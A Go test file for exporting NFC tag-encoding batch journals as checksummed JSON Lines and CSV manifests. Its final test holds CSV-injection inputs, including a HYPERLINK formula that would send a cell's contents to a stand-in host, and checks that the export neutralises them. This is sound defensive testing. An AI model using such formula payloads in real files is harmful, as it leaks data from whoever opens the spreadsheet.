package batch

import (
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/tagline-station/tagline/manifest"
	bolt "go.etcd.io/bbolt"
)

// exportJournal builds two interleaved batches (so that a batch's sequence
// numbers have gaps) and a re-encode, with a SKU that needs escaping.
func exportJournal(t *testing.T) *Store {
	t.Helper()
	s := newStore(t)
	if _, err := s.CreateBatch(Batch{ID: "B1", SKU: `Cap "Ø" 30mm, blue`, Target: 40, Template: "ndef\tv1", KeyVersion: 1}); err != nil {
		t.Fatal(err)
	}
	mustBatch(t, s, "B2")
	for i := range 30 {
		b := "B1"
		if i%3 == 2 {
			b = "B2"
		}
		encode(t, s, uidN(i), b)
	}
	it := intentFor(uidN(2), "B1") // bound in B2, re-encoded into B1
	it.Reencode = true
	encodeWithIntent(t, s, it)
	return s
}

func export(t *testing.T, s *Store, batchID string, opts ExportOptions) ([]byte, manifest.Summary) {
	t.Helper()
	var buf bytes.Buffer
	sum, err := s.Export(&buf, batchID, opts)
	if err != nil {
		t.Fatalf("Export(%s, %+v): %v", batchID, opts, err)
	}
	return buf.Bytes(), sum
}

type jsonlManifest struct {
	header  map[string]any
	records []manifest.Binding
	lines   [][]byte // the record lines, each with its '\n'
	trailer struct {
		Type      string `json:"type"`
		Count     int    `json:"count"`
		SHA256    string `json:"sha256"`
		NextSince uint64 `json:"next_since"`
	}
}

// parseJSONL reads a manifest with nothing but encoding/json and checks its
// trailer from the bytes alone, as a consumer of MANIFEST.md would.
func parseJSONL(t *testing.T, data []byte) jsonlManifest {
	t.Helper()
	var m jsonlManifest
	lines := bytes.SplitAfter(data, []byte("\n"))
	if len(lines) < 3 || len(lines[len(lines)-1]) != 0 {
		t.Fatalf("manifest is not newline-terminated lines:\n%s", data)
	}
	lines = lines[:len(lines)-1]
	if err := json.Unmarshal(lines[0], &m.header); err != nil || m.header["type"] != "header" || m.header["format"] != "tagline-manifest/1" {
		t.Fatalf("header %s: %v", lines[0], err)
	}
	if err := json.Unmarshal(lines[len(lines)-1], &m.trailer); err != nil || m.trailer.Type != "trailer" {
		t.Fatalf("trailer %s: %v", lines[len(lines)-1], err)
	}
	h := sha256.New()
	for _, l := range lines[1 : len(lines)-1] {
		var typ struct{ Type string }
		var b manifest.Binding
		if err := json.Unmarshal(l, &typ); err != nil || typ.Type != "binding" {
			t.Fatalf("record line %s: %v", l, err)
		}
		if err := json.Unmarshal(l, &b); err != nil {
			t.Fatalf("record line %s: %v", l, err)
		}
		h.Write(l)
		m.records = append(m.records, b)
		m.lines = append(m.lines, l)
	}
	if got := hex.EncodeToString(h.Sum(nil)); got != m.trailer.SHA256 {
		t.Fatalf("trailer sha256 %s, record lines hash to %s", m.trailer.SHA256, got)
	}
	if m.trailer.Count != len(m.records) {
		t.Fatalf("trailer count %d, %d records", m.trailer.Count, len(m.records))
	}
	return m
}

func TestExportJSONL(t *testing.T) {
	s := exportJournal(t)
	data, sum := export(t, s, "B1", ExportOptions{})
	m := parseJSONL(t, data)

	wantHeader := map[string]any{"type": "header", "format": "tagline-manifest/1", "batch": "B1",
		"sku": `Cap "Ø" 30mm, blue`, "template": "ndef\tv1", "key_version": 1.0, "target": 40.0, "station": "line1", "since": 0.0}
	for k, v := range wantHeader {
		if m.header[k] != v {
			t.Errorf("header %s = %v, want %v", k, m.header[k], v)
		}
	}
	if len(m.records) != 21 || sum.Count != 21 || sum.SHA256 != m.trailer.SHA256 || sum.NextSince != m.trailer.NextSince {
		t.Fatalf("%d records, summary %+v, trailer %+v", len(m.records), sum, m.trailer)
	}
	var prev uint64
	for _, r := range m.records {
		if r.Seq <= prev || r.BatchID != "B1" {
			t.Fatalf("record out of order or from another batch: %+v", r)
		}
		prev = r.Seq
		if cur, _, _ := s.Lookup(r.UID); cur.Seq == r.Seq && cur != r {
			t.Fatalf("manifest record %+v differs from the journal's %+v", r, cur)
		}
	}
	if last := m.records[len(m.records)-1]; last.UID != uidN(2) || m.trailer.NextSince != last.Seq {
		t.Fatalf("the re-encoded tag should come last: %+v, next_since %d", last, m.trailer.NextSince)
	}
}

func TestExportIsDeterministic(t *testing.T) {
	s := exportJournal(t)
	for _, f := range []string{"jsonl", "csv"} {
		a, _ := export(t, s, "B1", ExportOptions{Format: f})
		b, _ := export(t, s, "B1", ExportOptions{Format: f})
		if !bytes.Equal(a, b) {
			t.Fatalf("%s: two exports differ", f)
		}
		// Across chunk boundaries, and after a reopen.
		old := exportChunk
		exportChunk = 4
		c, _ := export(t, s, "B1", ExportOptions{Format: f})
		exportChunk = old
		if !bytes.Equal(a, c) {
			t.Fatalf("%s: chunked export differs", f)
		}
	}
	path := s.Path()
	a, _ := export(t, s, "B2", ExportOptions{})
	s.Close()
	opts := testOptions()
	opts.ReadOnly = true
	r := openStore(t, path, opts)
	b, _ := export(t, r, "B2", ExportOptions{})
	if !bytes.Equal(a, b) {
		t.Fatal("export differs after reopening")
	}
}

func TestExportResume(t *testing.T) {
	s := exportJournal(t)
	full, sum := export(t, s, "B1", ExportOptions{})
	all := parseJSONL(t, full)
	for _, chunk := range []int{8192, 2} {
		exportChunk = chunk
		for k := range all.records {
			since := all.records[k].Seq
			tail, tsum := export(t, s, "B1", ExportOptions{Since: since})
			m := parseJSONL(t, tail)
			if m.header["since"] != float64(since) {
				t.Fatalf("header since %v, want %d", m.header["since"], since)
			}
			want := all.lines[k+1:]
			if len(m.lines) != len(want) {
				t.Fatalf("since %d: %d records, want %d", since, len(m.lines), len(want))
			}
			for i := range want {
				if !bytes.Equal(m.lines[i], want[i]) {
					t.Fatalf("since %d: record %d differs", since, i)
				}
			}
			if tsum.NextSince != sum.NextSince {
				t.Fatalf("since %d: next_since %d, want %d", since, tsum.NextSince, sum.NextSince)
			}
		}
	}
	exportChunk = 8192

	// Resuming at the end gives an empty manifest that resumes at the same
	// place; new bindings then appear after it.
	_, empty := export(t, s, "B1", ExportOptions{Since: sum.NextSince})
	if empty.Count != 0 || empty.NextSince != sum.NextSince || empty.SHA256 != hex.EncodeToString(sha256.New().Sum(nil)) {
		t.Fatalf("empty tail %+v", empty)
	}
	encode(t, s, uidN(100), "B1")
	tail, _ := export(t, s, "B1", ExportOptions{Since: sum.NextSince})
	if m := parseJSONL(t, tail); len(m.records) != 1 || m.records[0].UID != uidN(100) {
		t.Fatalf("tail after a new binding: %+v", m.records)
	}
	if _, max := export(t, s, "B1", ExportOptions{Since: ^uint64(0)}); max.Count != 0 {
		t.Fatalf("since max: %+v", max)
	}
}

func TestExportCSV(t *testing.T) {
	s := exportJournal(t)
	jl, _ := export(t, s, "B1", ExportOptions{})
	want := parseJSONL(t, jl)
	data, sum := export(t, s, "B1", ExportOptions{Format: "csv"})

	r := csv.NewReader(bytes.NewReader(data))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("csv does not parse: %v\n%s", err, data)
	}
	if strings.Join(rows[0], ",") != "seq,uid,sku,batch_id,station_id,key_version,master_kcv,template_hash,outcome,attempts,read_ctr,started_at,completed_at" {
		t.Fatalf("column row %v", rows[0])
	}
	trailer := rows[len(rows)-1]
	if trailer[0] != "#trailer" {
		t.Fatalf("last row %v", trailer)
	}
	kv := map[string]string{}
	for _, f := range trailer[1:] {
		k, v, _ := strings.Cut(f, "=")
		kv[k] = v
	}
	if kv["format"] != manifest.Format || kv["batch"] != "B1" || kv["sku"] != `Cap "Ø" 30mm, blue` ||
		kv["count"] != "21" || kv["sha256"] != sum.SHA256 || kv["next_since"] != strconv.FormatUint(sum.NextSince, 10) || kv["since"] != "0" {
		t.Fatalf("trailer %v", kv)
	}
	recs := rows[1 : len(rows)-1]
	if len(recs) != len(want.records) {
		t.Fatalf("%d csv rows, %d jsonl records", len(recs), len(want.records))
	}
	for i, row := range recs {
		w := want.records[i]
		if row[0] != strconv.FormatUint(w.Seq, 10) || row[1] != string(w.UID) || row[2] != w.SKU || row[8] != string(w.Outcome) ||
			row[6] != w.MasterKCV || row[12] != w.CompletedAt.Format("2006-01-02T15:04:05.999999999Z07:00") {
			t.Fatalf("row %v differs from %+v", row, w)
		}
	}

	// The checksum covers the record rows' bytes; they are the lines between
	// the column row and the trailer.
	lines := bytes.SplitAfter(data, []byte("\n"))
	lines = lines[1 : len(lines)-2]
	h := sha256.New()
	for _, l := range lines {
		h.Write(l)
	}
	if hex.EncodeToString(h.Sum(nil)) != kv["sha256"] {
		t.Fatal("csv checksum does not verify")
	}

	// A reader that treats '#' as a comment sees a plain table.
	r = csv.NewReader(bytes.NewReader(data))
	r.Comment = '#'
	plain, err := r.ReadAll()
	if err != nil || len(plain) != len(recs)+1 {
		t.Fatalf("comment-aware reader: %d rows, %v", len(plain), err)
	}
}

func TestExportErrors(t *testing.T) {
	s := exportJournal(t)
	if _, err := s.Export(io.Discard, "nope", ExportOptions{}); !errors.Is(err, ErrNoBatch) {
		t.Fatalf("unknown batch: %v", err)
	}
	if _, err := s.Export(io.Discard, "B1", ExportOptions{Format: "xml"}); !errors.Is(err, ErrInvalid) {
		t.Fatalf("unknown format: %v", err)
	}
	broken := errors.New("disk full")
	exportChunk = 2
	defer func() { exportChunk = 8192 }()
	if _, err := s.Export(failingWriter{after: 1000, err: broken}, "B1", ExportOptions{}); !errors.Is(err, broken) {
		t.Fatalf("write error: %v", err)
	}
}

type failingWriter struct {
	after int
	err   error
}

func (w failingWriter) Write(p []byte) (int, error) {
	if len(p) > w.after {
		return w.after, w.err
	}
	return len(p), nil
}

// A damaged record is never exported: not under its checksum (v2), and not
// with an outcome no station writes (v1, which has no checksum). The error
// names the record's seq and tag, and no trailer is written.
func TestExportRefusesCorruptRecord(t *testing.T) {
	for _, c := range []struct {
		name   string
		damage func(v []byte) []byte
		says   string
	}{
		{"flipped byte", func(v []byte) []byte { v[len(v)/2] ^= 0x04; return v }, "fails its checksum"},
		{"v1 record with an unknown outcome", func(v []byte) []byte {
			b, err := decodeBinding(v)
			if err != nil {
				t.Fatal(err)
			}
			b.Outcome = "verifhed"
			return asV1(encodeBinding(&b))
		}, `unknown outcome "verifhed"`},
	} {
		t.Run(c.name, func(t *testing.T) {
			s, err := Open(filepath.Join(t.TempDir(), "journal.db"), testOptions())
			if err != nil {
				t.Fatal(err)
			}
			defer s.Close()
			mustBatch(t, s, "B1")
			for i := range 3 {
				encode(t, s, uidN(i), "B1")
			}
			err = s.db.Update(func(tx *bolt.Tx) error {
				bk := tx.Bucket(bktBindings)
				v := bytes.Clone(bk.Get([]byte(uidN(1))))
				return bk.Put([]byte(uidN(1)), c.damage(v))
			})
			if err != nil {
				t.Fatal(err)
			}
			var buf bytes.Buffer
			_, err = s.Export(&buf, "B1", ExportOptions{})
			if !errors.Is(err, ErrCorrupt) || !strings.Contains(err.Error(), "record seq 2 (tag "+string(uidN(1))+")") || !strings.Contains(err.Error(), c.says) {
				t.Fatalf("export of a damaged record: %v", err)
			}
			if bytes.Contains(buf.Bytes(), []byte(`"trailer"`)) || bytes.Contains(buf.Bytes(), []byte("verifhed")) {
				t.Fatalf("export wrote past the damaged record:\n%s", buf.Bytes())
			}
			if err := s.Verify(); !errors.Is(err, ErrCorrupt) {
				t.Fatalf("Verify: %v", err)
			}
		})
	}
}

// A SKU a spreadsheet would run as a formula lands in the CSV manifest as
// text: a leading single quote (OWASP's advice against CSV injection).
// The JSON Lines manifest and the trailer keep the SKU as it is.
func TestCSVNeutralisesFormulas(t *testing.T) {
	s := newStore(t)
	for i, sku := range []string{`=HYPERLINK("http://x.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1:A2)", "plain"} {
		id := fmt.Sprintf("F%d", i)
		if _, err := s.CreateBatch(Batch{ID: id, SKU: sku, KeyVersion: 1}); err != nil {
			t.Fatal(err)
		}
		encode(t, s, uidN(i), id)
		data, _ := export(t, s, id, ExportOptions{Format: "csv"})
		r := csv.NewReader(bytes.NewReader(data))
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("%s:\n%s: %v", sku, data, err)
		}
		want := sku
		if sku != "plain" {
			want = "'" + sku
		}
		if got := rows[1][2]; got != want {
			t.Errorf("sku %q is the csv cell %q, want %q", sku, got, want)
		}
		if !strings.Contains(rows[2][3], "sku="+sku) {
			t.Errorf("trailer %v", rows[2])
		}
		jl, _ := export(t, s, id, ExportOptions{})
		if m := parseJSONL(t, jl); m.records[0].SKU != sku {
			t.Errorf("jsonl sku %q", m.records[0].SKU)
		}
	}
}
